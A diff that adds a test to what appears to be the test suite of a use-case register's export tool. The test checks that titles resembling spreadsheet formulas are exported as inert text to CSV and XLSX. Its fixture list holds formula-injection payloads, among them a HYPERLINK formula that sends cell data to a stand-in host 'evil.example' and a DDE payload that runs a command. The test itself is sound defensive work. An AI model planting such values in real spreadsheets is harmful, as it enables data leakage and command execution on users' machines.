@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from pathlib import Path
@@ -140,6 +141,31 @@ def test_it_exports_xlsx_to_a_file_and_the_file_imports_again(org, other_org, tm
     assert sheet["B2"].value == "Chatbot"
     assert main(["import", "usecases", "--org", other_org.slug, str(output)]) == 0
     assert UseCase.objects.get(organisation=other_org).title == "Chatbot"
+
+
+FORMULA_TITLES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(1,1)",
+]
+
+
+def test_it_exports_formula_like_titles_as_text_in_csv_and_xlsx(org, tmp_path, capsys):
+    for title in FORMULA_TITLES:
+        make_usecase(org, title=title)
+    csv_file, xlsx_file = tmp_path / "register.csv", tmp_path / "register.xlsx"
+    for fmt, path in (("csv", csv_file), ("xlsx", xlsx_file)):
+        command = ["export", "usecases", "--org", org.slug, "--format", fmt, "--output", str(path)]
+        assert main(command) == 0
+    text = csv_file.read_text(encoding="utf-8-sig")
+    titles = [row["title"] for row in csv.DictReader(io.StringIO(text, newline=""))]
+    assert titles == ["'" + title for title in FORMULA_TITLES]
+    sheet = load_workbook(io.BytesIO(xlsx_file.read_bytes())).worksheets[0]
+    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
+    assert [(c.value, c.data_type) for c in cells] == [(t, "s") for t in FORMULA_TITLES]
+    assert main(["import", "usecases", "--org", org.slug, str(csv_file)]) == 0
+    assert "0 created, 0 updated, 4 unchanged" in capsys.readouterr().out
 
 
 def test_it_runs_the_import_benchmark_in_a_throwaway_database_and_ends_with_json(capfd):
